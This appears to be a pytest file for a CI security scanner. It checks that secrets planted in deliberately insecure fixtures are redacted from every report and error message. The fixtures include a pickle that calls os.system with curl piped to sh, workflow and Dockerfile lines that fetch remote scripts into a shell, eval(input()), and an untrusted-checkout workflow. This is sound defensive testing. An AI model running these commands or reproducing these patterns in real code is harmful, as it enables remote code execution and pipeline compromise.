"""No secret value leaves the process, whichever scanner quotes it (issue: redaction is
a stage of the pipeline, not a property of the secrets scanner).

Each file below makes a different scanner quote a credential: a code snippet, a
workflow `run:` line, an nginx header, an invalid requirement, a Keras module name, a
pickle call argument, an IAM `Sid`, a YAML alias in a skip reason, a directory named
after a token. Every report format, stderr and the action's outputs are searched for
the raw values. The values are made at run time so no literal secret sits in this
repository."""

from __future__ import annotations

import io
import json
import random
import string
import zipfile
from pathlib import Path

import pytest

from tests.conftest import run_cli, write_tree

_rng = random.Random(20261204)
_B62 = string.ascii_letters + string.digits


def _mixed(n: int) -> str:
    """Base62 with upper, lower and digits guaranteed (what real keys look like)."""
    while True:
        value = "".join(_rng.choice(_B62) for _ in range(n))
        if any(c.isupper() for c in value) and any(c.islower() for c in value) and any(c.isdigit() for c in value):
            return value


GITHUB = "ghp_" + _mixed(36)
HUGGINGFACE = "hf_" + "".join(_rng.choice(string.ascii_letters) for _ in range(34))
ANTHROPIC = "sk-ant-api03-" + _mixed(93) + "AA"
OPENAI = "sk-proj-" + _mixed(40) + "T3BlbkFJ" + _mixed(40)
AWS = "AKIA" + "".join(_rng.choice(string.ascii_uppercase + "234567") for _ in range(16))
BEARER = _mixed(32)
PASSWORD = "Qx7" + _mixed(9)
GITLAB = "glpat-" + _mixed(20)
SECRETS = {
    "github": GITHUB,
    "huggingface": HUGGINGFACE,
    "anthropic": ANTHROPIC,
    "openai": OPENAI,
    "aws": AWS,
    "bearer": BEARER,
    "password": PASSWORD,
    "gitlab": GITLAB,
}


def _keras_archive() -> bytes:
    config = {
        "module": f"keras.layers.{HUGGINGFACE}",
        "class_name": "Lambda",
        "config": {"name": "l", "function": {"module": f"evil_{GITHUB}", "function_name": "run"}},
    }
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("config.json", json.dumps(config))
        zf.writestr("metadata.json", json.dumps({"keras_version": "3.0.0"}))
        zf.writestr("model.weights.h5", b"")
    return buf.getvalue()


def _pickle_calling_system() -> bytes:
    # Protocol 0 by hand: GLOBAL os.system, the argument, TUPLE, REDUCE, STOP. Never loaded.
    command = f"curl -H 'Authorization: token {GITHUB}' https://example.invalid | sh"
    return b"cos\nsystem\n(V" + command.encode() + b"\ntR."


def leaky_text_files() -> dict[str, str]:
    """The text files of the leaky repository (the action's checkout fixture takes text)."""
    return {
        "src/fetch.py": (
            "import subprocess\nimport torch\n\n"
            f"subprocess.run(f\"curl -H 'Authorization: token {GITHUB}' {{url}}\", shell=True)\n"
            f"model = torch.load(path)  # key {HUGGINGFACE}\n"
            f'eval(input())  # password = "{PASSWORD}"\n'
        ),
        ".github/workflows/ci.yml": (
            "name: ci\non: [pull_request_target]\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - uses: actions/checkout@v4\n        with:\n"
            "          ref: ${{ github.event.pull_request.head.sha }}\n"
            f"      - run: curl -H 'token {HUGGINGFACE}' https://x.invalid/install.sh | bash\n"
            f'      - run: echo "${{{{ github.event.pull_request.title }}}}" {GITLAB}\n'
        ),
        "deploy/nginx.conf": (
            "server {\n  listen 80;\n  location / {\n"
            f"    proxy_set_header Authorization 'Bearer {BEARER}';\n"
            "    proxy_pass http://mlflow:5000;\n  }\n}\n"
        ),
        "pyproject.toml": (
            f'[project]\nname = "demo"\nversion = "1"\ndependencies = ["torch ==2.0 {ANTHROPIC}", "requests"]\n'
        ),
        "setup.cfg": f"[options]\ninstall_requires =\n    numpy >=1.0 ;;; {OPENAI}\n",
        "iam/policy.json": json.dumps(
            {
                "Version": "2012-10-17",
                "Statement": [{"Sid": f"Allow{AWS}", "Effect": "Allow", "Action": "*", "Resource": "*"}],
            },
            indent=2,
        ),
        "k8s/deploy.yaml": (
            f"apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: x\nspec:\n  template: *{GITHUB}\n"
        ),
        f"tokens/{GITHUB}/settings.py": f'DB_PASSWORD = "{PASSWORD}"\n',
        "Dockerfile": (
            "FROM python:3.11\n"
            f"RUN curl -fsSL -H 'Authorization: token {GITHUB}' https://x.invalid/get.sh | sh\n"
            f"ENV HF_TOKEN={HUGGINGFACE}\n"
        ),
    }


def leaky_repository(root: Path) -> None:
    files: dict[str, str | bytes] = dict(leaky_text_files())
    files["models/classifier.keras"] = _keras_archive()
    files["models/model.pkl"] = _pickle_calling_system()
    write_tree(root, files)


def _leaks(text: str) -> list[str]:
    return sorted(name for name, value in SECRETS.items() if value in text)


@pytest.fixture(scope="module")
def scanned(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str]]:
    tmp = tmp_path_factory.mktemp("leaks")
    repo = tmp / "repo"
    leaky_repository(repo)
    out = tmp / "out"
    proc = run_cli(
        "scan", repo, "--no-git", "--offline", "--quiet",
        "--format", "json", "--output", out / "r.json",
        "--format", "sarif", "--output", out / "r.sarif",
        "--format", "markdown", "--output", out / "r.md",
        "--format", "text", "--output", out / "r.txt",
    )  # fmt: skip
    assert proc.returncode == 1, proc.stderr
    texts = {p.name: p.read_text(encoding="utf-8") for p in sorted(out.iterdir())}
    texts["stdout"] = proc.stdout
    texts["stderr"] = proc.stderr
    return repo, texts


def test_every_scanner_quotes_something_yet_no_raw_value_reaches_a_report(
    scanned: tuple[Path, dict[str, str]],
) -> None:
    _, texts = scanned
    report = json.loads(texts["r.json"])
    # The scan really looked at every planted file: otherwise "no leak" would prove nothing.
    scanners = {f["scanner"] for f in report["findings"]}
    assert {"code", "workflows", "cloud", "models", "docker", "secrets"} <= scanners, scanners
    assert {name: _leaks(text) for name, text in texts.items()} == {name: [] for name in texts}


def test_redacted_forms_still_say_where_the_secret_was(scanned: tuple[Path, dict[str, str]]) -> None:
    _, texts = scanned
    report = json.loads(texts["r.json"])
    paths = {f["path"] for f in report["findings"]} | {s["path"] for s in report["skipped"]}
    assert any(p.startswith("tokens/ghp_") and "chars]" in p for p in paths), sorted(paths)
    code = [f for f in report["findings"] if f["scanner"] == "code" and f["start_line"] == 4]
    assert code and all(GITHUB[:4] in f["snippet"] and "…[40 chars]" in f["snippet"] for f in code)


@pytest.mark.parametrize(
    "config",
    [
        f"fail-on: '{GITHUB}'\n",
        f"{HUGGINGFACE}: 1\n",
        f"scanners: [secrets, {GITLAB}]\n",
        f"rules:\n  {AWS}: {{severity: high}}\n",
        f"exclude: *{GITHUB}\n",
        f"rules:\n  docker/root-user: {{severity: high, tags: [{ANTHROPIC}]}}\n",
        f"ignores:\n  - rule: secrets/{OPENAI}\n    reason: r\n",
        f"include: [1, {{a: {GITHUB}}}]\n",
    ],
    ids=["fail-on", "unknown-key", "scanner", "rule-id", "alias", "tag", "ignore-rule", "nested-value"],
)
def test_config_errors_name_the_key_but_never_echo_a_token(tmp_path: Path, config: str) -> None:
    (tmp_path / ".aisec.yml").write_text(config, encoding="utf-8")
    proc = run_cli("scan", tmp_path, "--no-git", "--offline", "--quiet")
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert proc.stderr.startswith("aisec-ci: error: ") and ".aisec.yml" in proc.stderr
    if config.startswith("fail-on"):
        assert "'ghp_…[40 chars]' is not one of" in proc.stderr  # named, in its redacted form
    assert _leaks(proc.stdout + proc.stderr) == []


def test_usage_errors_never_echo_a_token(tmp_path: Path) -> None:
    proc = run_cli("scan", tmp_path, "--fail-on", GITHUB)
    assert proc.returncode == 2 and "--fail-on" in proc.stderr
    assert _leaks(proc.stdout + proc.stderr) == []
    proc = run_cli("scan", tmp_path, "--scanners", f"secrets,{HUGGINGFACE}")
    assert proc.returncode == 2 and "unknown scanner" in proc.stderr
    assert _leaks(proc.stdout + proc.stderr) == []
